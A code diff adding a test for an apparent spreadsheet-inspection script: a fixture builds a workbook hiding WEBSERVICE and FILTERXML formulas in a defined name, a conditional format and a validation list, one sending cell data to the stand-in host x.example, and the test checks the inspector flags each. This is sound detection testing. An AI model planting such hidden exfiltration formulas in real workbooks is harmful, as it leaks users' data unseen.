@@ -159,3 +159,42 @@ def test_inspect_reports_vba_and_external_link_parts_per_file(tmp_path):
 def test_the_script_passes_the_pre_check():
     import precheck
     assert precheck.check(open(SCRIPT, encoding="utf-8").read()) == []
+
+
+def hidden_formulas_workbook(path):
+    """Network formulas where no cell shows them: a defined name, a conditional format, a validation list."""
+    from openpyxl.formatting.rule import FormulaRule
+    from openpyxl.workbook.defined_name import DefinedName
+    from openpyxl.worksheet.datavalidation import DataValidation
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.title = "Sales Q1"
+    ws.append(["Region", "Sales"])
+    ws.append(["North", 10])
+    ws["C2"] = "=Leak"  # the cell itself looks harmless
+    leak = DefinedName("Leak", attr_text='WEBSERVICE("https://x.example/?d="&\'Sales Q1\'!$A$2)')
+    if hasattr(wb.defined_names, "add"):
+        wb.defined_names.add(leak)
+    else:  # openpyxl < 3.1
+        wb.defined_names.append(leak)
+    ws.conditional_formatting.add("B2:B9", FormulaRule(formula=['ISNUMBER(WEBSERVICE("https://x.example/"&A2))'], fill=None))
+    dv = DataValidation(type="list", formula1='=FILTERXML(WEBSERVICE("https://x.example/list"),"//i")')
+    dv.add("A2:A9")
+    ws.add_data_validation(dv)
+    plain = DataValidation(type="list", formula1='"North,South"')
+    plain.add("D2:D9")
+    ws.add_data_validation(plain)
+    wb.create_sheet("Other")["A1"] = "plain text"
+    wb.save(path)
+
+
+def test_inspect_finds_network_formulas_outside_cells(tmp_path):
+    out = run_script(tmp_path, {"mode": "inspect", "files": ["hidden.xlsx"]}, {"hidden.xlsx": hidden_formulas_workbook})
+    [report] = json.loads((out / "inspect-report.json").read_text(encoding="utf-8"))
+    places = {f["place"]: f["reasons"] for f in report["networkFormulas"]}
+    assert places == {
+        "defined name Leak": ["WEBSERVICE"],
+        "conditional format on Sales Q1!B2:B9": ["WEBSERVICE"],
+        "data validation on Sales Q1!A2:A9": ["FILTERXML", "WEBSERVICE"],
+    }
+    assert report["networkFormulaCount"] == 3
